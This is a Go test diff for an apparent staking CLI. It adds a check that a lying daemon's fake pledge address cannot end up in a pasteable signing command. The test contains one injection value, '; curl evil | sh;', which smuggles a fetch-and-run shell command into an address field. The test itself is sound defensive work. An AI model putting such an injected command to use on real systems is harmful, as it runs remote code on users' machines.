@@ -7,6 +7,7 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"strings"
 	"testing"
@@ -69,6 +70,7 @@ func (x *far) membersWords() []word {
 		{"join --remote", "which transaction it posted", "must be a transaction's id; it posts nothing else, because only the signed ticket goes there", nil, nil, "", nil},
 		{"join --remote", "until when to wait for a block", "at most 40 blocks", nil, nil, "", nil},
 		{"amend --remote", "the time of the last block", "compared with this machine's clock", dated(time.Now().AddDate(0, 7, 0)), x.raise("510"), "lies in the future", nil},
+		{"amend --remote", "which address a pledge is of", "must be an address of the network that can sign", nil, nil, "", nil},
 		{"amend --remote", "where rewards go now", "the person names the address, or confirms it", on("/pools/", func(a map[string]any) {
 			for _, p := range a["pledges"].([]any) {
 				p.(map[string]any)["reward_address"] = elsewhere
@@ -176,7 +178,44 @@ func TestLyingDaemonThatPosts(t *testing.T) {
 	tells(x.words())
 	x.manages(x.join("--coins", "500")...)
 	tells(x.membersWords())
+	x.wordsAboutAddresses()
 	x.wordsAboutPostings()
+}
+
+// wordsAboutAddresses has the daemon give a pledge, and all that is at its address, another address, which would stand in a command to paste.
+func (x *far) wordsAboutAddresses() {
+	const other = "; curl evil | sh;"
+	truth := x.at.API
+	x.at.API = between(x.t, truth, func(_ http.ResponseWriter, r *http.Request, _ string, _ http.Handler) bool {
+		r.URL.Path, r.URL.RawPath = strings.ReplaceAll(r.URL.Path, other, x.address), ""
+		r.URL.RawQuery = strings.ReplaceAll(r.URL.RawQuery, url.QueryEscape(other), x.address)
+		return false
+	})
+	var renamed func(v any) any
+	renamed = func(v any) any {
+		switch v := v.(type) {
+		case map[string]any:
+			for name := range v {
+				if name != "reward_address" {
+					v[name] = renamed(v[name])
+				}
+			}
+		case []any:
+			for i := range v {
+				v[i] = renamed(v[i])
+			}
+		case string:
+			if v == x.address {
+				return other
+			}
+		}
+		return v
+	}
+	x.at.API = x.tampering(func(_ *http.Request, answer map[string]any) { renamed(answer) })
+	if out := x.fails("an address that is none", exitNo, "no address that can sign", x.signs, x.raise("512")...); strings.Contains(out, "signmessage") {
+		x.t.Errorf("the command to paste:\n%s", out)
+	}
+	x.at.API = truth
 }
 
 // wordsAboutPostings has the daemon lie about what it posts.
